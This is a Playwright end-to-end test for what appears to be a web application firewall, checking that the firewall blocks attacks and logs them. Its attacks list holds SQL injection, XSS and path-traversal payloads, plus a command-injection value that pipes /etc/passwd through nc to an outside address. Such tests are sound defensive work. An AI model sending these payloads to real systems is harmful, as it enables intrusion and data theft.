import { expect, type Page, test } from '@playwright/test';
import { startInstallation } from '../product/installation.ts';
import type { Installation } from '../product/product.ts';
import { ask, startUpstream } from '../product/upstream.ts';

const email = 'ada@example.com';
const password = 'Correct-horse-7!';
const host = 'shop.example.com';
/** A second on a machine that does nothing else; a test has to share it. */
const soonMs = 5_000;

/** What the four categories of a new site must stop, by the part of the request that carries it. */
const attacks = [
  {
    what: 'SQL injection in a query',
    threat: /sql/i,
    path: "/items?id=1'%20UNION%20SELECT%20password%20FROM%20users--",
  },
  {
    what: 'XSS in a form',
    threat: /xss|script/i,
    path: '/comments',
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
  },
  {
    what: 'path traversal in the path',
    threat: /path|traversal/i,
    path: '/files/..%2f..%2f..%2fetc%2fpasswd',
  },
  {
    what: 'command injection in JSON',
    threat: /command/i,
    path: '/api/ping',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{"host":"127.0.0.1; cat /etc/passwd | nc 203.0.113.9 4444"}',
  },
  {
    what: 'SQL injection in a cookie',
    threat: /sql/i,
    path: '/',
    headers: { cookie: "cart=1' OR '1'='1' -- " },
  },
  {
    what: 'XSS in a header',
    threat: /xss|script/i,
    path: '/',
    headers: { referer: 'https://a.example/?q=<img src=x onerror=alert(1)>' },
  },
];

/** The first hour with the product, as one story: each step stands on the one before. */
test.describe
  .serial('the first hour', () => {
    let product: Installation;
    let upstream: Awaited<ReturnType<typeof startUpstream>>;
    let page: Page;

    const visit = (options: Omit<Parameters<typeof ask>[0], 'port' | 'host'>) =>
      ask({ port: product.gatewayPort, host, ...options });

    const steps = () => page.getByRole('region', { name: 'First steps' });

    test.beforeAll(async ({ browser }) => {
      upstream = await startUpstream((request, response) => {
        response.setHeader('content-type', 'text/plain');
        response.end(`upstream saw ${request.method} ${request.url}`);
      });
      product = await startInstallation();
      page = await browser.newPage();
    });
    test.afterAll(async () => {
      await page.close();
      await product.stop();
      await upstream.stop();
    });

    test('the link of the terminal makes the first administrator', async () => {
      expect(product.setupLink, product.output()).toBeDefined();
      await page.goto(product.setupLink ?? '');
      await expect(page).toHaveURL(/\/setup$/);
      await page.getByLabel('Email').fill(email);
      await page.getByRole('textbox', { name: 'Password', exact: true }).fill(password);
      await page.getByRole('textbox', { name: 'Confirm password' }).fill(password);
      await page.getByRole('button', { name: /create/i }).click();
      await expect(page.getByRole('heading', { name: 'Dashboard' }).first()).toBeVisible();
    });

    test('the link is worth nothing a second time', async ({ browser }) => {
      const other = await browser.newPage();
      await other.goto(product.setupLink ?? '');
      await expect(other.getByText('This installation is already set up')).toBeVisible();
      await other.close();
    });

    test('a site added in the console is served within a second, without a restart', async () => {
      expect((await visit({})).status).toBe(404);
      // The dashboard says what to do first, and leads there.
      await steps().getByRole('link', { name: 'Add Site' }).click();
      await expect(page.getByText('No sites configured yet')).toBeVisible();
      const form = page.getByRole('dialog', { name: 'Add New Site' });
      await form.getByRole('textbox', { name: 'Name', exact: true }).fill('Shop');
      await form.getByLabel('Primary domain').fill(host);
      await form.getByLabel('Upstream URL').fill(upstream.url);
      await form.getByRole('button', { name: 'Create Site' }).click();
      await expect(page.getByText('Site created successfully')).toBeVisible();
      await expect
        .poll(async () => (await visit({ path: '/hello' })).body, { timeout: soonMs })
        .toBe('upstream saw GET /hello');
    });

    test('ordinary traffic passes, and each kind of attack is stopped with a reference id', async () => {
      for (const ordinary of ['/?q=the+union+will+select+a+new+board', "/?name=O'Brien", '/a/b/c?x=1%2B1']) {
        expect((await visit({ path: ordinary })).status, ordinary).toBe(200);
      }
      for (const { what, threat, ...attack } of attacks) {
        const answer = await visit({ ...attack, headers: { ...attack.headers, accept: 'application/json' } });
        expect(answer.status, what).toBe(403);
        expect(JSON.parse(answer.body), what).toMatchObject({
          requestId: expect.stringMatching(/^[\w-]{8,}$/),
        });
        expect(answer.body, 'says nothing of the rule').not.toMatch(threat);
      }
    });

    test('a block stands in the live log within a second, with what was found and where', async () => {
      await page.getByRole('link', { name: 'Logs' }).click();
      await expect(page.getByText('Connected', { exact: true })).toBeVisible();
      const secret = "/live?id=7'%20UNION%20SELECT%20secret%20FROM%20vault--";
      const events = page.getByRole('region', { name: 'Live events, newest first' }).getByRole('listitem');
      const blocked = await visit({ path: secret, headers: { accept: 'application/json' } });
      const event = events.filter({ hasText: '/live' });
      await expect(event).toContainText('query parameter id', { timeout: soonMs });
      const { requestId } = JSON.parse(blocked.body) as { requestId: string };
      await event.click();
      const details = page.getByRole('dialog');
      await expect(details).toContainText(requestId);
      await expect(details).toContainText("7' UNION SELECT secret FROM vault--");
      await expect(details).toContainText('id');
      await page.keyboard.press('Escape');
      await expect(details).toBeHidden();
    });

    test('the dashboard shows real figures, and they survive a restart', async () => {
      const shown = async () => {
        await page.goto(`${product.console}/`);
        await expect(page.getByText('Recent Threats')).toBeVisible();
        await expect(steps()).toHaveCount(0);
        await expect(page.getByRole('table').last()).toContainText('Shop');
        return page.getByRole('main').innerText();
      };
      await expect.poll(shown, { timeout: 15_000 }).toMatch(/Blocked Requests\s+7\b/);
      product = await product.restart();
      expect(product.setupLink).toBeUndefined();
      expect((await visit({ path: '/after' })).body).toBe('upstream saw GET /after');
      await page.goto(`${product.console}/login`);
      await page.getByLabel('Email').fill(email);
      await page.getByRole('textbox', { name: 'Password' }).fill(password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await expect(page.getByRole('heading', { name: 'Dashboard' }).first()).toBeVisible();
      await expect.poll(shown).toMatch(/Blocked Requests\s+7\b/);
    });
  });
